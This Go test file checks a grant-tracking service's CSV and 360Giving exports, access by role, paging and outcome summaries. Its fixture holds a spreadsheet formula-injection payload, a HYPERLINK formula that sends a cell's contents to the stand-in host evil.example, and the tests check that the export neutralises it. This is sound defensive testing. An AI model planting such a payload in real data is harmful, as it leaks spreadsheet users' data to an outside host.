package httpapi_test

// Tests of the exports (issue #5) through HTTP, run by the package's harness
// (api_harness_test.go) over a fresh DynamoDB Local table whose client
// counts the DynamoDB requests it makes, with a 360Giving prefix configured
// as FUNDTRACK_360_PREFIX would configure it. Names start with "ex".

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/fundtrack/fundtrack/shared/platform"
	"github.com/fundtrack/fundtrack/shared/testkit"
)

// exPrefix is the configured 360Giving prefix.
const exPrefix = "ftk-test"

// exAPI is the API over one table, with the configured 360Giving prefix.
type exAPI struct {
	*apiH
}

func exNew(t *testing.T) *exAPI {
	t.Helper()
	return &exAPI{apiH: startAPI(t, testkit.New(t), nil, testkit.APIConfig{Config: platform.Config{GivingPrefix: exPrefix}})}
}

// exWorld is the fixture, made through the service as admin:
//
//	P "Working for Wellness": funders X (org-id GB-GOR-DWP), Y (none) and N
//	  (no grants); projects A, B; grants X→A (a title trying formula
//	  injection), Y→B, X→P (the whole programme);
//	  members lead, pl-a (A), pl-b (B), funder-x (X), funder-y (Y), funder-n (N).
//	Q: funder Z, project C, grant Z→C; member lead2@ (lead).
type exWorld struct {
	P, X, Y, N, A, B string
	GXA, GYB, GXP    string
	Q, GZC           string
}

const exInjection = `=HYPERLINK("http://evil.example/?"&A1,"£ details")`

func exSetup(t *testing.T, a *exAPI) *exWorld {
	t.Helper()
	w := &exWorld{}
	prog := func(name, lead string) map[string]any {
		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2027-12-31"}
	}
	project := func(name, lead string) map[string]any {
		return map[string]any{"name": name, "leadOrganisation": lead, "startDate": "2025-01-01", "endDate": "2026-12-31"}
	}
	grant := func(title, description, funder, project string, pence int64, award, start, end string) map[string]any {
		g := map[string]any{"funderId": funder, "title": title, "description": description, "amountPence": pence,
			"currency": "GBP", "awardDate": award, "startDate": start, "endDate": end}
		if project != "" {
			g["projectId"] = project
		}
		return g
	}
	b := a.Build(t)
	w.P = b.Programme(prog("Working for Wellness", "Leicestershire Partnership NHS Trust")).ID
	w.X = b.Funder(w.P, map[string]any{"name": "Department for Work and Pensions", "orgId": "GB-GOR-DWP", "contacts": []string{"grants@x.example.org"}}).ID
	w.Y = b.Funder(w.P, map[string]any{"name": "Local Trust, Bradford", "contacts": []string{"grants@y.example.org"}}).ID
	w.N = b.Funder(w.P, map[string]any{"name": "Newcomer Fund", "contacts": []string{"grants@n.example.org"}}).ID
	w.A = b.Project(w.P, project("IPS Bradford", "Bradford District Care NHS FT")).ID
	w.B = b.Project(w.P, project("Aspiro internships", "Aspiro CIC")).ID
	w.GXA = b.Grant(w.P, grant(exInjection, "Two IPS employment specialists", w.X, w.A, 31_000_000, "2025-01-15", "2025-02-01", "2026-01-31")).ID
	w.GYB = b.Grant(w.P, grant("Internship places", "", w.Y, w.B, 1_234_505, "2025-02-28", "2025-03-01", "2025-12-31")).ID
	w.GXP = b.Grant(w.P, grant("Network co-ordination", "Programme-wide support", w.X, "", 30_000_000, "2025-01-15", "2025-01-01", "2027-12-31")).ID
	b.Member(w.P, uLead, testkit.RoleLead())
	b.Member(w.P, uPLA, testkit.RoleProjectLead(w.A))
	b.Member(w.P, uPLB, testkit.RoleProjectLead(w.B))
	b.Member(w.P, uFunderX, testkit.RoleFunder(w.X))
	b.Member(w.P, uFunderY, testkit.RoleFunder(w.Y))
	b.Member(w.P, uFunderN, testkit.RoleFunder(w.N))

	w.Q = b.Programme(prog("Another network", "Another Trust")).ID
	z := b.Funder(w.Q, map[string]any{"name": "Funder Z", "contacts": []string{"z@z.example.org"}}).ID
	c := b.Project(w.Q, project("Project C", "C Trust")).ID
	w.GZC = b.Grant(w.Q, grant("Z to C", "", z, c, 1_000_000, "2025-01-15", "2025-02-01", "2026-01-31")).ID
	b.Member(w.Q, uLead2, testkit.RoleLead())
	return w
}

func (w *exWorld) pp(rest string) string { return "/programmes/" + w.P + rest }

const exGrantsHeader = "Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"

// exCSV checks a CSV download's headers and returns its rows (header first).
func exCSV(t *testing.T, r testkit.Resp, filename string) [][]string {
	t.Helper()
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q, want text/csv; charset=utf-8", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="`+filename+`"` {
		t.Errorf("Content-Disposition %q, want attachment; filename=%q", cd, filename)
	}
	if !bytes.HasPrefix(r.Body, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", r.Body[:min(len(r.Body), 20)])
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Body[3:])).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, r.Body)
	}
	return rows
}

func exColumn(rows [][]string, col int) []string {
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[col])
	}
	return out
}

func TestExportGrantsCSV(t *testing.T) {
	a := exNew(t)
	w := exSetup(t, a)

	t.Run("exact content for a lead", func(t *testing.T) {
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil))
		exCSV(t, r, "working-for-wellness-grants.csv")
		want := "\ufeff" + exGrantsHeader +
			w.GXA + `,"'=HYPERLINK(""http://evil.example/?""&A1,""£ details"")",Department for Work and Pensions,GB-GOR-DWP,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31` + "\r\n" +
			w.GYB + `,Internship places,"Local Trust, Bradford",,Aspiro internships,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
			w.GXP + `,Network co-ordination,Department for Work and Pensions,GB-GOR-DWP,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31` + "\r\n"
		if string(r.Body) != want {
			t.Fatalf("grants CSV:\n got %q\nwant %q", r.Body, want)
		}
		if cc := r.Header.Get("Cache-Control"); cc != "no-store" {
			t.Errorf("Cache-Control %q, want no-store", cc)
		}
	})

	t.Run("formula injection is escaped", func(t *testing.T) {
		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), uLead, nil)), "working-for-wellness-grants.csv")
		if got := rows[1][1]; got != "'"+exInjection {
			t.Fatalf("title cell %q, want the formula behind an apostrophe", got)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %d %q of %q could run as a formula", i, cell, row)
				}
			}
		}
	})

	t.Run("roles", func(t *testing.T) {
		for _, tc := range []struct {
			as   string
			want []string
		}{
			{uAdmin, []string{w.GXA, w.GYB, w.GXP}},
			{uLead, []string{w.GXA, w.GYB, w.GXP}},
			{uFunderX, []string{w.GXA, w.GXP}},
			{uFunderY, []string{w.GYB}},
			{uPLA, []string{w.GXA}},
			{uPLB, []string{w.GYB}},
			{uFunderN, nil},
		} {
			rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants.csv"), tc.as, nil)), "working-for-wellness-grants.csv")
			if got := exColumn(rows, 0); !slices.Equal(got, tc.want) {
				t.Errorf("%s sees grants %v, want %v", tc.as, got, tc.want)
			}
			if strings.Join(rows[0], ",")+"\r\n" != exGrantsHeader {
				t.Errorf("%s: header %q", tc.as, rows[0])
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		r, _ := a.Send(testkit.Request("GET", w.pp("/grants.csv"), "", nil))
		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
		r, _ = a.Send(testkit.Request("GET", "/programmes/not-an-id/grants.csv", uAdmin, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
	})
}

// ------------------------------------------------------------ 360Giving

const exGrantSchemaRef = "https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/360-giving-schema.json"

var exGiving struct {
	once   sync.Once
	schema *jsonschema.Schema
	err    error
}

// exGivingSchema compiles the 360Giving package schema from
// FUNDTRACK_SCHEMAS_DIR (default ../shared/schemas beside the repository),
// with the grant schema it $refs by its 1.4.2 URL served from the local
// file; both declare draft 2020-12, and formats are asserted (the schema's
// dates are oneOf a date-time format and a YYYY-MM-DD pattern).
func exGivingSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	dir := os.Getenv("FUNDTRACK_SCHEMAS_DIR")
	if dir == "" {
		dir = filepath.Join("..", "..", "..", "shared", "schemas") // from shared/httpapi
	}
	pkgPath, grantPath := filepath.Join(dir, "360-giving-package-schema.json"), filepath.Join(dir, "360-giving-schema.json")
	for _, p := range []string{pkgPath, grantPath} {
		if _, err := os.Stat(p); err != nil {
			t.Skipf("360Giving schema not found at %s (set FUNDTRACK_SCHEMAS_DIR to the folder holding the 360Giving schemas): %v", p, err)
		}
	}
	exGiving.once.Do(func() {
		c := jsonschema.NewCompiler()
		c.DefaultDraft(jsonschema.Draft2020)
		c.AssertFormat()
		for _, res := range []struct{ path, url string }{{grantPath, exGrantSchemaRef}, {pkgPath, pkgPath}} {
			f, err := os.Open(res.path)
			if err != nil {
				exGiving.err = err
				return
			}
			doc, err := jsonschema.UnmarshalJSON(f)
			f.Close()
			if err != nil {
				exGiving.err = err
				return
			}
			if d, _ := doc.(map[string]any)["$schema"].(string); !strings.Contains(d, "2020-12") {
				exGiving.err = fmt.Errorf("%s declares %q, expected draft 2020-12", res.path, d)
				return
			}
			if exGiving.err = c.AddResource(res.url, doc); exGiving.err != nil {
				return
			}
		}
		exGiving.schema, exGiving.err = c.Compile(pkgPath)
	})
	if exGiving.err != nil {
		t.Fatalf("compile 360Giving schemas: %v", exGiving.err)
	}
	return exGiving.schema
}

func exValidateGiving(t *testing.T, raw []byte) error {
	t.Helper()
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("not JSON: %v\n%s", err, raw)
	}
	return exGivingSchema(t).Validate(doc)
}

type exOrg struct {
	ID   string `json:"id"`
	Name string `json:"name"`
}

type exGrant struct {
	ID            string  `json:"id"`
	Title         string  `json:"title"`
	Description   string  `json:"description"`
	Currency      string  `json:"currency"`
	AmountAwarded float64 `json:"amountAwarded"`
	AwardDate     string  `json:"awardDate"`
	PlannedDates  []struct {
		StartDate string `json:"startDate"`
		EndDate   string `json:"endDate"`
	} `json:"plannedDates"`
	RecipientOrganization []exOrg `json:"recipientOrganization"`
	FundingOrganization   []exOrg `json:"fundingOrganization"`
	DateModified          string  `json:"dateModified"`
}

type exPackage struct {
	Grants    []exGrant `json:"grants"`
	Version   string    `json:"version"`
	Publisher exOrg     `json:"publisher"`
}

func exGivingIDs(p exPackage) []string {
	var out []string
	for _, g := range p.Grants {
		out = append(out, g.ID)
	}
	return out
}

func TestExportGrants360Giving(t *testing.T) {
	a := exNew(t)
	w := exSetup(t, a)
	gid := func(id string) string { return "360G-" + exPrefix + "-" + id }

	get := func(t *testing.T, as string) exPackage {
		t.Helper()
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Fatalf("Content-Type %q", ct)
		}
		if err := exValidateGiving(t, r.Body); err != nil {
			t.Fatalf("the package %s got fails the 360Giving schema: %v\n%s", as, err, r.Body)
		}
		var p exPackage
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatal(err)
		}
		return p
	}

	t.Run("valid and complete for a lead", func(t *testing.T) {
		p := get(t, uLead)
		if p.Version != "1.4" || p.Publisher.Name != "Leicestershire Partnership NHS Trust" {
			t.Errorf("package metadata: version %q publisher %+v", p.Version, p.Publisher)
		}
		if got, want := exGivingIDs(p), []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}; !slices.Equal(got, want) {
			t.Fatalf("grants %v, want %v", got, want)
		}
		xa, yb, xp := p.Grants[0], p.Grants[1], p.Grants[2]
		// Titles are data here, not spreadsheet cells: no apostrophe.
		if xa.Title != exInjection || xa.Description != "Two IPS employment specialists" || xa.Currency != "GBP" ||
			xa.AmountAwarded != 310000 || xa.AwardDate != "2025-01-15" ||
			len(xa.PlannedDates) != 1 || xa.PlannedDates[0].StartDate != "2025-02-01" || xa.PlannedDates[0].EndDate != "2026-01-31" {
			t.Errorf("grant X→A: %+v", xa)
		}
		if want := []exOrg{{"GB-GOR-DWP", "Department for Work and Pensions"}}; !slices.Equal(xa.FundingOrganization, want) {
			t.Errorf("X→A funder %+v, want %+v (its org-id)", xa.FundingOrganization, want)
		}
		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.A, "Bradford District Care NHS FT"}}; !slices.Equal(xa.RecipientOrganization, want) {
			t.Errorf("X→A recipient %+v, want %+v", xa.RecipientOrganization, want)
		}
		if yb.AmountAwarded != 12345.05 || yb.Description != "Internship places" {
			t.Errorf("grant Y→B: amount %v description %q (want 12345.05, the title for want of a description)", yb.AmountAwarded, yb.Description)
		}
		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.Y, "Local Trust, Bradford"}}; !slices.Equal(yb.FundingOrganization, want) {
			t.Errorf("Y→B funder %+v, want %+v (no org-id: a fundtrack one)", yb.FundingOrganization, want)
		}
		if want := []exOrg{{"360G-" + exPrefix + "-org-" + w.P, "Leicestershire Partnership NHS Trust"}}; !slices.Equal(xp.RecipientOrganization, want) {
			t.Errorf("programme-wide grant's recipient %+v, want the programme's lead %+v", xp.RecipientOrganization, want)
		}
		if _, err := time.Parse(time.RFC3339, xa.DateModified); err != nil {
			t.Errorf("dateModified %q: %v", xa.DateModified, err)
		}
	})

	t.Run("roles", func(t *testing.T) {
		for _, tc := range []struct {
			as   string
			want []string
		}{
			{uAdmin, []string{gid(w.GXA), gid(w.GYB), gid(w.GXP)}},
			{uFunderX, []string{gid(w.GXA), gid(w.GXP)}},
			{uFunderY, []string{gid(w.GYB)}},
			{uPLA, []string{gid(w.GXA)}},
			{uPLB, []string{gid(w.GYB)}},
		} {
			if got := exGivingIDs(get(t, tc.as)); !slices.Equal(got, tc.want) {
				t.Errorf("%s sees %v, want %v", tc.as, got, tc.want)
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		// A member who may read no grant: 360Giving needs at least one.
		r, _ := a.Send(testkit.Request("GET", w.pp("/grants/360giving"), uFunderN, nil))
		testkit.WantErr(t, r, http.StatusNotFound, "not_found")
	})

	t.Run("a grant id is not shadowed", func(t *testing.T) {
		// The literal route sits beside GET …/grants/{grantId}; grants still read.
		a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/"+w.GXA), uLead, nil))
	})

	t.Run("the schema check bites", func(t *testing.T) {
		r := a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/grants/360giving"), uLead, nil))
		var p map[string]any
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatal(err)
		}
		g := p["grants"].([]any)[0].(map[string]any)
		g["amountAwarded"] = "£310,000.00"
		delete(g, "fundingOrganization")
		raw, _ := json.Marshal(p)
		if err := exValidateGiving(t, raw); err == nil {
			t.Fatalf("a broken package passed the schema check:\n%s", raw)
		}
	})
}

// TestExportPagesThroughEveryGrant: both grant exports hold every grant
// however many pages the list takes (a page is at most 100), for a lead
// (the programme's grants) and a funder (the funder index).
func TestExportPagesThroughEveryGrant(t *testing.T) {
	a := exNew(t)
	p, _ := a.Create(t, uAdmin, "/programmes", map[string]any{"name": "Big programme", "leadOrganisation": "Big Trust",
		"startDate": "2025-01-01", "endDate": "2027-12-31"})
	f, _ := a.Create(t, uAdmin, "/programmes/"+p+"/funders", map[string]any{"name": "F", "contacts": []string{"f@f.example.org"}})
	a.PutMember(t, p, uLead, testkit.RoleLead())
	a.PutMember(t, p, uFunderX, testkit.RoleFunder(f))
	const n = 120
	ids := make([]string, n)
	var wg sync.WaitGroup
	sem := make(chan struct{}, 16)
	errs := make(chan error, n)
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			r, err := a.Send(testkit.Request("POST", "/programmes/"+p+"/grants", uAdmin, map[string]any{"funderId": f, "title": fmt.Sprintf("Grant %03d", i),
				"amountPence": 100 + i, "currency": "GBP", "awardDate": "2025-01-15", "startDate": "2025-02-01", "endDate": "2026-01-31"}))
			if err != nil || r.Status != http.StatusCreated {
				errs <- fmt.Errorf("grant %d: %v %s", i, err, r)
				return
			}
			var v struct{ ID string }
			json.Unmarshal(r.Body, &v)
			ids[i] = v.ID
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	slices.Sort(ids) // lists come oldest first: ids sort by creation time
	for _, as := range []string{uLead, uFunderX} {
		rows := exCSV(t, a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants.csv", as, nil)), "big-programme-grants.csv")
		if got := exColumn(rows, 0); !slices.Equal(got, ids) {
			t.Errorf("%s: CSV has %d grants, want all %d in order", as, len(got), n)
		}
		r := a.Want(t, http.StatusOK, testkit.Request("GET", "/programmes/"+p+"/grants/360giving", as, nil))
		var pkg exPackage
		if err := json.Unmarshal(r.Body, &pkg); err != nil {
			t.Fatal(err)
		}
		if len(pkg.Grants) != n {
			t.Errorf("%s: 360Giving package has %d grants, want %d", as, len(pkg.Grants), n)
		}
		if err := exValidateGiving(t, r.Body); err != nil {
			t.Errorf("%s: %v", as, err)
		}
	}
}

// ------------------------------------------------------------ outcome summary

func TestExportOutcomeSummary(t *testing.T) {
	a := exNew(t)
	w := exSetup(t, a)
	outcome := func(t *testing.T, as, project string, counts map[string]int64) {
		t.Helper()
		a.Create(t, as, w.pp("/projects/"+project+"/outcomes"), testkit.OutcomeBody(counts))
	}
	summary := func(t *testing.T, as string) testkit.Resp {
		t.Helper()
		return a.Want(t, http.StatusOK, testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
	}
	header := "\ufeffProject,Referrals,People into work,Job starts,Jobs sustained for 13 weeks,Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n"

	t.Run("before any submission", func(t *testing.T) {
		want := header + "IPS Bradford,0,0,0,0,0,0,0,0\r\nAspiro internships,0,0,0,0,0,0,0,0\r\nProgramme total,0,0,0,0,0,0,0,0\r\n"
		if got := string(summary(t, uLead).Body); got != want {
			t.Fatalf("summary:\n got %q\nwant %q", got, want)
		}
	})

	// A: referrals 12, into work 7, job starts 8, sustained 1.
	// B: referrals 13, into work 1, interns enrolled 4.
	outcome(t, uPLA, w.A, map[string]int64{"referrals": 10, "peopleIntoWork": 7, "jobStarts": 8})
	outcome(t, uPLA, w.A, map[string]int64{"referrals": 2, "sustainedJobs13Weeks": 1})
	outcome(t, uPLB, w.B, map[string]int64{"referrals": 13, "peopleIntoWork": 1, "internsEnrolled": 4})

	// Totals 25, 8, 8, 1, 0, 0, 4, 0: controlled from the true totals, so
	// people into work is 8 → 10 though both projects' figures are "*".
	want := header +
		"IPS Bradford,10,*,10,*,0,0,0,0\r\n" +
		"Aspiro internships,15,*,0,0,0,0,*,0\r\n" +
		"Programme total,25,10,10,*,0,0,*,0\r\n"

	t.Run("every member reads the same controlled figures", func(t *testing.T) {
		for _, as := range []string{uAdmin, uLead, uPLA, uPLB, uFunderX, uFunderY, uFunderN} {
			r := summary(t, as)
			exCSV(t, r, "working-for-wellness-outcomes-summary.csv")
			if string(r.Body) != want {
				t.Errorf("summary as %s:\n got %q\nwant %q", as, r.Body, want)
			}
		}
		for _, as := range []string{uOutsider, uLead2} {
			r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), as, nil))
			testkit.WantErr(t, r, http.StatusNotFound, "not_found")
		}
		r, _ := a.Send(testkit.Request("GET", w.pp("/outcomes/summary.csv"), "", nil))
		testkit.WantErr(t, r, http.StatusUnauthorized, "unauthenticated")
	})

	t.Run("a fixed few requests however many submissions", func(t *testing.T) {
		count := func() int {
			return a.Count.Measure(func() { summary(t, uLead) }).Requests
		}
		before := count()
		for range 20 {
			outcome(t, uPLB, w.B, map[string]int64{"trainingStarts": 1})
		}
		after := count()
		if before != after || after > 4 || after == 0 {
			t.Fatalf("summary took %d DynamoDB requests, then %d after 20 more submissions; want the same few (≤ 4)", before, after)
		}
		if got := string(summary(t, uLead).Body); !strings.Contains(got, "Aspiro internships,15,*,0,0,0,20,*,0\r\n") || !strings.Contains(got, "Programme total,25,10,10,*,0,20,*,0\r\n") {
			t.Fatalf("after 20 training starts:\n%s", got)
		}
	})
}
